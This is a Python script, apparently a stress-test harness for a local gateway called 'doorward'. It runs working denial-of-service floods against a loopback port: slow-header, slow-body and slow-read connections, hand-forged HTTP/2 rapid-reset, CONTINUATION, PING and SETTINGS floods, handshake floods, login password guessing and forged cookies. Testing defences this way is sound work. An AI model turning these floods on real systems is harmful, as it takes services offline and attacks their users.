"""Runs one flood and prints its counts as JSON: connections, frames, responses by status.

    attack.py NAME PORT SECONDS SIZE      SIZE is a share of the full flood, such as 0.1

All floods except `one-network` come from thousands of addresses, so limits per network do not apply. The script
builds its own frames, because HTTP/2 libraries refuse to send invalid ones.
"""

import asyncio
import json
import os
import random
import re
import socket
import ssl
import sys
import time
import urllib.parse
from collections import Counter

SLOW_CONNECTIONS = 2000
FAST_CONNECTIONS = 40
COUNTS: Counter[str] = Counter()

DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET, POST = b"\x82", b"\x83"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(method: bytes = GET) -> bytes:
    return method + b"\x87\x84\x01\x09localhost"


def random_address() -> str:
    return f"127.{random.randint(1, 250)}.{random.randint(0, 255)}.{random.randint(1, 254)}"


def tls_context(*protocols: str) -> ssl.SSLContext:
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    tls.set_alpn_protocols(protocols or ["http/1.1"])
    return tls


async def connect(
    port: int, tls: ssl.SSLContext, address: str | None = None, window: int | None = None, name: str = "localhost"
):
    """Connects from `address`, by default a random one. `window` is the size of the kernel's receive buffer."""
    COUNTS["connections"] += 1
    plain = socket.socket()
    plain.setblocking(False)
    if window:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    plain.bind((address or random_address(), 0))
    await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
    return await asyncio.open_connection(sock=plain, ssl=tls, server_hostname=name, limit=window or 65536)


def repeated(flood):
    """Repeats a flood and reconnects when the gateway closes the connection."""

    async def forever(port: int) -> None:
        while True:
            try:
                await flood(port)
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                COUNTS["closed"] += 1
                await asyncio.sleep(0.05)

    return forever


async def drip(stream, data: bytes) -> None:
    reader, writer = stream
    while not reader.at_eof():
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(2)
    raise ConnectionError


@repeated
async def slow_heads(port: int) -> None:
    stream = await connect(port, tls_context())
    stream[1].write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
    await drip(stream, b"x")


@repeated
async def slow_bodies(port: int) -> None:
    stream = await connect(port, tls_context())
    stream[1].write(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
    await drip(stream, b"x")


@repeated
async def slow_reading(port: int) -> None:
    _, writer = await connect(port, tls_context(), window=2048, name="big.localhost")
    writer.transport.pause_reading()
    writer.write(b"GET /big HTTP/1.1\r\nHost: big.localhost\r\n\r\n")
    while not writer.transport.is_closing():
        await asyncio.sleep(1)
        writer.write(b" ")
    raise ConnectionError


def frames(start: bytes, make_frame):
    """Returns a flood of HTTP/2 frames at full speed: `start`, then `make_frame(n)` for each number n."""

    @repeated
    async def flood(port: int) -> None:
        reader, writer = await connect(port, tls_context("h2"))
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + start)
        number = 0
        while True:
            writer.write(b"".join(make_frame(number + step) for step in range(50)))
            number += 50
            COUNTS["frames"] += 50
            await writer.drain()
            # Responses are discarded.
            reader._buffer.clear()
            reader._maybe_resume_transport()
            if reader.at_eof():
                raise ConnectionError
            await asyncio.sleep(0)

    return flood


def stream_of(number: int) -> int:
    return (number * 2 + 1) % (1 << 31)


def reset(number: int) -> bytes:
    stream = stream_of(number)
    return frame(HEADERS, 5, stream, head()) + frame(RST, 0, stream, (8).to_bytes(4, "big"))


def made_reset(number: int) -> bytes:
    stream = stream_of(number)
    return frame(HEADERS, 5, stream, head()) + frame(WINDOW, 0, stream, b"\x7f\xff\xff\xff")


@repeated
async def handshakes(port: int) -> None:
    _, writer = await connect(port, tls_context("h2"))
    writer.transport.abort()


@repeated
async def one_network(port: int) -> None:
    _, writer = await connect(port, tls_context(), address="127.0.0.1")
    await asyncio.sleep(1)
    writer.transport.abort()


async def exchange(stream, request: bytes) -> tuple[bytes, bytes]:
    reader, writer = stream
    writer.write(request)
    response = await reader.readuntil(b"\r\n\r\n")
    COUNTS[response[9:12].decode()] += 1
    found = re.search(rb"content-length: (\d+)", response, re.IGNORECASE)
    return response, await reader.readexactly(int(found.group(1)) if found else 0)


@repeated
async def logins(port: int) -> None:
    stream = await connect(port, tls_context())
    page = b"GET /.doorward/login HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n"
    response, body = await exchange(stream, page)
    cookies = b"; ".join(re.findall(rb"set-cookie: ([^;]*)", response, re.IGNORECASE))
    csrf = re.search(rb'name="csrf"[^>]*value="([^"]*)"', body).group(1).decode()
    for number in range(5):
        form = {"username": f"user{random.random()}", "password": f"guess {number}", "csrf": csrf}
        text = urllib.parse.urlencode(form).encode()
        await exchange(
            stream,
            b"POST /.doorward/login HTTP/1.1\r\nHost: localhost:%d\r\n"
            b"Origin: https://localhost:%d\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Cookie: %s\r\nContent-Length: %d\r\n\r\n%s" % (port, port, cookies, len(text), text),
        )
    stream[1].transport.abort()


@repeated
async def forged_cookies(port: int) -> None:
    stream = await connect(port, tls_context())
    while True:
        cookie = "dw1_" + os.urandom(58).hex()[:104]
        request = f"GET / HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-doorward={cookie}\r\n\r\n"
        await exchange(stream, request.encode())


HEADER = b"\x00\x01x\x64" + b"y" * 100
FLOODS = {
    "slow-heads": (slow_heads, SLOW_CONNECTIONS),
    "slow-bodies": (slow_bodies, SLOW_CONNECTIONS),
    "slow-reading": (slow_reading, SLOW_CONNECTIONS),
    "rapid-reset": (frames(b"", reset), FAST_CONNECTIONS),
    "made-you-reset": (frames(b"", made_reset), FAST_CONNECTIONS),
    "continuation": (
        frames(frame(HEADERS, 1, 1, head()), lambda _: frame(CONTINUATION, 0, 1, HEADER)),
        FAST_CONNECTIONS,
    ),
    "empty-data": (frames(frame(HEADERS, 4, 1, head(POST)), lambda _: frame(DATA, 0, 1)), FAST_CONNECTIONS),
    "pings": (frames(b"", lambda _: frame(PING, 0, 0, bytes(8))), FAST_CONNECTIONS),
    "settings": (frames(b"", lambda _: frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64")), FAST_CONNECTIONS),
    "handshakes": (handshakes, FAST_CONNECTIONS),
    "logins": (logins, FAST_CONNECTIONS),
    "forged-cookies": (forged_cookies, FAST_CONNECTIONS),
    "one-network": (one_network, SLOW_CONNECTIONS),
}


async def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    flood, size = FLOODS[name]
    # The gateway and its users have priority.
    os.nice(10)
    tasks = []
    start = time.monotonic()
    for number in range(max(1, int(size * float(sys.argv[4])))):
        tasks.append(asyncio.create_task(flood(port)))
        if number % 50 == 0:
            await asyncio.sleep(0.01)
    await asyncio.sleep(max(0.0, start + seconds - time.monotonic()))
    print(json.dumps(COUNTS), flush=True)
    # All connections end at once, with the process.
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main())
